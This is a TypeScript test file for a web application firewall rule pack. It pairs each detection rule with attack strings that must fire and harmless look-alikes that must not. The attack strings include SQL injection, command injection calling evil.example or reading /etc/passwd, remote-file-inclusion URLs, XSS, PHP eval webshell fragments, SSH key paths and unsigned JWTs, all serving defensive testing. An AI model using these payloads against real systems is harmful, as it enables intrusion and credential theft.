/** Rules of our own pack, each with what it is for and with what ordinary requests have that looks like it. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { createEngine, NO_WEIGHTS, ownRules } from '../../src/index.ts'
import { inspect } from '../support/corpus.ts'
import { get } from '../support/requests.ts'

interface Examples {
  readonly attacks: readonly string[]
  readonly harmless: readonly string[]
}

const token = (header: string): string =>
  [header, '{"sub":"1"}', ''].map((part) => Buffer.from(part).toString('base64url')).join('.')

const EXAMPLES: Readonly<Record<string, Examples>> = {
  'sp-sqli-end-of-literal': {
    attacks: ["shop@example.org';", '7");', 'x`) ;'],
    harmless: ["the users';", "it's;", '"quoted";', "say 'yes'; then go"],
  },
  'sp-sqli-constants': {
    attacks: ['7=7', "'3'!='4", '12 <=> 5', '6 like 6', '(812=812)*1', "'a'<>'b'"],
    harmless: [
      'MTIzNA==',
      '3 < 4',
      '3=4',
      '1=11',
      '12 is not 5',
      '12=',
      '2026-11-23',
      '1.2.3',
      'a=1',
      "it's 5 = 5 o'clock",
    ],
  },
  'sp-sqli-leading-operator': {
    attacks: ['||(flag!=0)', '&& role = 1', '|| lang == ', '||7', "|| admin.add('a','b') || '"],
    harmless: ['|| or ||', '&nbsp;', '| a | b |', 'a && b == c'],
  },
  'sp-sqli-leading-logic': {
    attacks: ["' or name@x", '"  and 5', 'or 17', 'or true--', 'end-- '],
    harmless: ["'or else' he said", 'or 17 of them', 'and true', 'endings--'],
  },
  'sp-sqli-leading-statement': {
    attacks: ['; insert into', ';update accounts', ' ;drop', "';set @a"],
    harmless: ['; update', 'set the table', 'first; insert into the slot', 'drop'],
  },
  'sp-sqli-json-literal': {
    attacks: [`or '{"k":1}' ? 'k'`, `'[4,5]' <> '[4]'`],
    harmless: [`curl -d '{"k":1}' https://example.org`, `a '[x]' b`],
  },
  'sp-nosqli-quote-function': {
    attacks: [`a@example.org';(function(){var d=new Date()}())`, '1"+(function () { return 1 })+"'],
    harmless: ['$("#a").on("click", function () {})', 'a function() { return }'],
  },
  'sp-rce-option': {
    attacks: ['9;mytool --version', 'a|pkexec -u root', '&& systemd-run -t sh', ';chmod +x a'],
    harmless: ['one; two - three', 'a | b - c', 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0)', 'left && right'],
  },
  'sp-rce-brace-word': {
    attacks: ['{l,-a}s', 'w{hoa,x}mi now', '{whoami,}'],
    harmless: ['{a,b}', 'src/{a,b}.js', '{name}', 'x{1,2}'],
  },
  'sp-rce-directory-stack': {
    attacks: ['~+/', '~-2', '!-1'],
    harmless: ['~5', '~user', '!important', '-1', '~', '~+', '~-'],
  },
  'sp-rce-empty-variable': {
    attacks: ['wh$$oami', 'uname$x -a', 'ca$-t /x', ';$a cat x.txt'],
    harmless: ['US$20', 'a $x b', '$name', 'cost: 5$ -a'],
  },
  'sp-rce-split-program': {
    attacks: [`'wh'oami`, `w""get http://a.example/`, `x;c\\at /etc/hosts`],
    harmless: [`O'Keefe's`, `"who" is it`, 'id', 'cat -n', `the 'cat' sat`],
  },
  'sp-xss-tagged-call': {
    // biome-ignore-start lint/suspicious/noTemplateCurlyInString: this is how JavaScript writes it
    attacks: ['[1].find.call`${print}1`', '[] . sort . call `x`', '`${alert}`'],
    harmless: ['[1].map(call)', '`${name}`', 'list.sort().call()'],
    // biome-ignore-end lint/suspicious/noTemplateCurlyInString: this is how JavaScript writes it
  },
  'sp-xss-dom-change': {
    attacks: ['document.body.append(x)', `document.querySelector('p').textContent = 'x'`],
    harmless: ['the document.body of it', 'document.title'],
  },
  'sp-node-begin': {
    attacks: ['new Function (', 'process[mainModule', 'require[req.query.a'],
    harmless: ['a new function (of time)', 'process (2)', 'required [1]'],
  },
  'sp-sqli-quote-logic-function': {
    attacks: [
      "admin@shop.example' or json_valid(id);",
      "x\\' or glob(id,id)--",
      "1' and not ascii(name) > 64",
    ],
    harmless: [
      "the users' and admins' rights (all of them)",
      "if (name == '' && isOpen(name)) return",
      "it's a (small) test; or not",
    ],
  },
  'sp-sqli-where-constants': {
    attacks: ['1 where 6494 = 6494', "1') where 8729=8729", 'hi or a  =  a'],
    harmless: ['where 2 or more agree', 'this or a = b + c', 'where 20 = the limit'],
  },
  'sp-sqli-remainder-operand': {
    attacks: ['1%(SELECT 27) rLikE SLeep', 'anD 5 %0x1c 4'],
    harmless: ['up to 100% (select one) of it', 'printf("%0x\\n") and more'],
  },
  'sp-sqli-server-probe': {
    attacks: ['1 and left(version(),1)=4', 'select user()'],
    harmless: ['the user() and database() helpers', 'and user (you)'],
  },
  'sp-sqli-insert-values': {
    attacks: ["insert into users (login, level) values ('a', 70)", 'create user x identified by pass123'],
    harmless: ['insert into the slot (left) what values', 'create user accounts'],
  },
  'sp-sqli-case-when': {
    attacks: ['1);iif(5257=5257,1,1/0)', '1,(case when 1=1 then 1 end)'],
    harmless: ['iif you like', 'if (a) b'],
  },
  'sp-sqli-nested-select': {
    attacks: ['(select count(*) from domain.tables as t)', '1%(select 5)'],
    harmless: ['(select all that apply)', '(select items from the list)'],
  },
  'sp-sqli-libinjection': {
    attacks: ["admin' or '1'='1", "1' or 1=1 -- -", '" or "a"="a', "x') or ('1'='1"],
    harmless: [
      '100 - (avg(irate(requests{mode="idle"}[5m])) * 100)',
      'sum by (job) (rate(http{job="a",code=~"5.."}[1m])) > 3',
    ],
  },
  'sp-ssrf-scheme': {
    attacks: ['file:///etc/passwd', 'url:file:///etc/hosts', 'gopher://127.0.0.1:6379/_', '(gopher://x)'],
    harmless: [
      'Error: x\n    at run (file:///app/a.js:1:2)\n    at file:///app/b.js:3:4',
      'begins with "file://"',
      'smb://%s',
    ],
  },
  'sp-ruby-perl': {
    attacks: ['qx{id}', 'x;qx/id/', 'return qx(ls)'],
    harmless: ['TWFueSBoYW5kcyBtYWtl qx/+bGlnaHQgd29yaw', 'a/qx/b'],
  },
  'sp-sqli-inline-comment-split': {
    attacks: ['union/**/select', 'select/*x*/1', 'or /**/1', '1 /*!50000union*/ all'],
    harmless: ['SELECT id FROM /*_*/revision', 'from  /* which */ here'],
  },
  'sp-sqli-quote-clause-comment': {
    attacks: [
      "z'or email notnull--",
      "user'collate nocase--",
      "' and email ilike email-- -",
      "x') limit 1--",
    ],
    harmless: [
      "it is your parents' and yours",
      "O'Brien -- not in",
      "my parents' and your friends' cat -- a story",
      "don't or do -- as you like",
    ],
  },
  'sp-sqli-logic-then-comparison': {
    attacks: ['OR 1# ', 'or 1-- ', ') and 3/*'],
    harmless: ['or 1 of 3', 'and 2; then the rest', 'or #1'],
  },
  'sp-sqli-delay': {
    attacks: ['SELECT sLeEp (mOD(10,5))', "1' and sleep(5)"],
    harmless: ['and sleep (eight hours) well', 'await sleep(delayMs)'],
  },
  'sp-sqli-server-functions': {
    attacks: ['concat(0x223e,version())', 'select 0x616263'],
    harmless: ['a colour such as 0x616263', 'concat(first, second)'],
  },
  'sp-sqli-cast-probe': {
    attacks: ['1 current_user::int', 'f(a)::bigint', 'version()::double precision'],
    harmless: ['std::vector<int>', 'fe80::1', 'the member Foo::name'],
  },
  'sp-sqli-json-operators': {
    attacks: ["OR json_extract(data, '$.name') = 'a'", "x or '{\"a\":1}' @> '{}'"],
    harmless: ['json_extract(data)', 'JSON or json_decode(text)'],
  },
  'sp-sqli-drop-truncate': {
    attacks: ['DROP sampletable;--'],
    harmless: ['drop me a line; thanks', 'drop it -- now'],
  },
  'sp-sqli-empty-exponent': {
    attacks: ['1.e(ascii', '1.e.tables', '1.e union select 2'],
    harmless: ['1.5e3', '2.e4', 'see 1.e for more', 'v1.e2e.test'],
  },
  'sp-rce-separator': {
    attacks: ['shop.example;cat /etc/hosts', 'x|base32 /etc/hosts', 'a && find / -name x', '; id|'],
    harmless: [
      'https://shop.example/?a=1&sort=-date\n    at https://shop.example/a.js:1:2',
      'Shoes | AT&T',
      'Bags & More | Shop',
      ';loggedIn=(not set)',
      'pick | find the best; host it',
    ],
  },
  'sp-rce-separator-end': {
    attacks: ['shop.example;ls', 'a|whoami', "x;'id'", '127.0.0.1|top', 'x; find', 'a & whoami', '1 && host'],
    harmless: [
      'rock & roll',
      'coffee | tea',
      'first;second\n& more',
      'Cars, Flights & More',
      'Our shop | Top',
      'birds | fish',
    ],
  },
  'sp-rce-line-break': {
    attacks: ['x\ncat /etc/passwd', '\r\ncurl http://evil.example'],
    harmless: [
      'Error: failed\n    at <anonymous>\n    at run (app.js:1)',
      '```sh\nnode -r module app.js\n```',
      'Set the name\nset `false` or nothing\nin this order.',
    ],
  },
  'sp-rce-mail-protocol': {
    attacks: ['x\r\nRCPT TO:<a@shop.example>', '\nQUIT', '\r\nA1 LOGIN a b', '\r\nEHLO shop.example'],
    harmless: [
      'line one\nline two\nquit\n',
      'fetching\nw1 fetch done\nw2 list done',
      'Mail from: home\nwas late',
    ],
  },
  'sp-rce-quoted-program': {
    attacks: [';"curl" http://evil.example', "x|'cat' /etc/hosts"],
    harmless: ['say "cat" and "dog"; "find" them', 'a; "id" is a column'],
  },
  'sp-rce-expansion-trick': {
    attacks: [
      ...['/usr/bin/[u]name', 'cat /et$$c/passwd', ';cat<<<x', '/b*/cat /etc/*wd'],
      ...['/???/c?t', '/bin/c?t /etc/p*', '{cat,/etc/passwd}', '/*in/cat?'],
    ],
    harmless: [
      ...['/docs/[slug]/page', 'it costs US$$5', 'a <<< b'],
      ...['DROP TABLE /*_*/archive', 'FROM /*i*/slots', 'is it closed/deleted???really'],
    ],
  },
  'sp-java-gadgets-base64': {
    attacks: [`x.${Buffer.from('org.InvokerTransformer.x').toString('base64')}`],
    harmless: [Buffer.from('{"runtime":"node","getProperty":1}').toString('base64')],
  },
  'sp-java-word-base64': {
    attacks: [Buffer.from('Runtime').toString('base64'), Buffer.from('x.FileWriter').toString('base64')],
    harmless: [Buffer.from('{"runtime":"node","sdk":"1.2.3","release":"a"}').toString('base64')],
  },
  'sp-xss-script-url': {
    attacks: [
      'javascript:alert(1)',
      'javascript:1/alert(1)',
      'javascript:0;x()',
      'javascript:void(alert(1))',
      'java\tscript:fetch(x)',
    ],
    harmless: [
      'javascript:3.4.1',
      'see javascript:3\nalert',
      'javascript:void(0)',
      'javascript:void(0);',
      'javascript:;',
      'javascript:#',
    ],
  },
  'sp-rfi': {
    attacks: [
      'http://evil.example/shell.txt?',
      'http://203.0.113.9/x.php',
      'https://evil.example?',
      'see\nhttp://evil.example/x.php?\n',
    ],
    harmless: [
      'is it at\nhttp://shop.example/a.php? or not',
      'https://shop.example/activity;src=1;type=counter?',
      'https://shop.example/search?',
      'https://shop.example/a.php?b=c',
    ],
  },
  'sp-sqli-comment-tail': {
    attacks: ["admin'--", "x')-- -", "1' #", '1)--', "a'/*"],
    harmless: ['semver(1) -- The versioner', '```\n-- ---> e1', 'f(x) /* what it does */'],
  },
  'sp-os-file': {
    attacks: [
      'C:\\Windows\\System32\\drivers\\etc\\hosts',
      'c:/windows/win.ini',
      '/windows/system32/cmd.exe',
      '/root/.ssh/id_rsa',
      '../../.git/config',
    ],
    harmless: [
      'C:\\Windows\\System32',
      'installed in C:\\Windows',
      'see ~/.ssh/known_hosts',
      '~/.ssh/config',
    ],
  },
  'sp-php-variable-call': {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: this is how PHP writes it
    attacks: ['$a[0]($_GET[1])', '${x}(1);'],
    harmless: ['$a[]()', '$a{}()', 'costs $5 (about)'],
  },
  'sp-xss-dom-sink': { attacks: ['x=document.cookie'], harmless: ['a document about cookies'] },
  'sp-sqli-broken-pattern': {
    attacks: ['1%"', "abc%') ) "],
    harmless: ['100%', '50% off', 'a "100%"', "5%'s", 'width:100%"'],
  },
  'sp-sqli-broken-syntax': {
    attacks: [`7'.,(").(,)`, `x")),.'((.,`, String.raw`1\\'1`],
    harmless: ['("...")', "(see 'x'), and so on...", '"Well...",', String.raw`don\\'t`, '(\'a\', "b")'],
  },
  'sp-sqli-hexadecimal-words': {
    attacks: [
      `0x${Buffer.from('UNION all').toString('hex')}`,
      `cast(0x${Buffer.from('declare @a', 'utf16le').toString('hex')} as nvarchar)`,
    ],
    harmless: ['0xdeadbeefcafe', `0x${Buffer.from('a sunny day in June').toString('hex')}`, '73656c656374'],
  },
  'sp-xpath-all': {
    attacks: ['//*', "x'] | //*"],
    harmless: ['//*[@id="a"]/div', '// * note', '/*', 'a | b'],
  },
  'sp-ldapi-filter': { attacks: ['*|', '*)(uid=*'], harmless: ['a * | b', '*|NAME|*', '*'] },
  'sp-python-inline-import': {
    attacks: ['__import__("os").popen("id")', "x=__import__('subprocess') . run"],
    harmless: ['import os', '__import__(name)', '__import__("json")'],
  },
  'sp-php-request-run': {
    attacks: ['@eval(base64_decode($_POST["x"]))', 'system($_GET[0])', '$_GET["f"]($x)'],
    harmless: ['echo $_GET["name"]', 'the system (see $_POST)', 'evaluate($_POST)'],
  },
  'sp-php-tags': { attacks: ['<?php echo 1', '<?= $x'], harmless: ['<?phpx', 'how to close <?php?'] },
  'sp-php-superglobals': {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: this is how PHP writes it
    attacks: ['$_GET[x]', '${_POST}', '$GLOBALS'],
    harmless: ['use $_COOKIE for it', '$_get_name'],
  },
  'sp-rce-powershell': {
    attacks: ['x|iex', 'iwr http://a.example'],
    harmless: ['sap\nsaps\nsense', 'icm meeting'],
  },
  'sp-jwt-unsigned': {
    attacks: [token('{"alg":"none"}'), token('{ "typ": "JWT", "alg" : "NONE" }')],
    harmless: [token('{"alg":"RS256","typ":"JWT"}'), token('{"alg":"HS256","kid":"none"}')],
  },
}

// Compiled once for all examples, which takes longer than they do.
const unweighted = createEngine([ownRules()], NO_WEIGHTS)
const engine = createEngine([ownRules()])

for (const [id, { attacks, harmless }] of Object.entries(EXAMPLES))
  test(id, async () => {
    const firedBy = async (text: string): Promise<boolean> => {
      const { hits } = await inspect(unweighted, get(`/?q=${encodeURIComponent(text)}`))
      return hits.some(({ rule }) => rule === id)
    }
    for (const text of attacks) assert.equal(await firedBy(text), true, text)
    for (const text of harmless) assert.equal(await firedBy(text), false, text)
  })

test('a statement is seen in a path that its comments cut into segments, and pages named after properties are not', async () => {
  const rulesAt = async (target: string): Promise<string[]> =>
    (await inspect(engine, get(target))).hits.map(({ rule }) => rule)
  assert.ok((await rulesAt('/get/if(now()=sysdate(),sleep(/*comment*/12),0)/')).includes('sp-sqli-delay'))
  assert.deepEqual(await rulesAt('/docs/web/api/document.cookie'), [])
})

test('quotes that a database would turn into plain ones are read as such', async () => {
  const hitsOf = async (text: string): Promise<number> =>
    (await inspect(engine, get(`/?q=${encodeURIComponent(text)}`))).hits.length
  for (const quote of ['\u2018', '\u2019', '\u02bc', '\u00b4', '\u2032'])
    assert.ok((await hitsOf(`${quote} or ${quote}1${quote}=${quote}1`)) > 0, quote)
  for (const text of [
    'don\u2019t worry, it\u2019s \u2018fine\u2019',
    'l\u2019\u00e9t\u00e9 et l\u2019hiver',
    'it\u2019s 6\u20325 or 7',
  ])
    assert.equal(await hitsOf(text), 0, text)
})
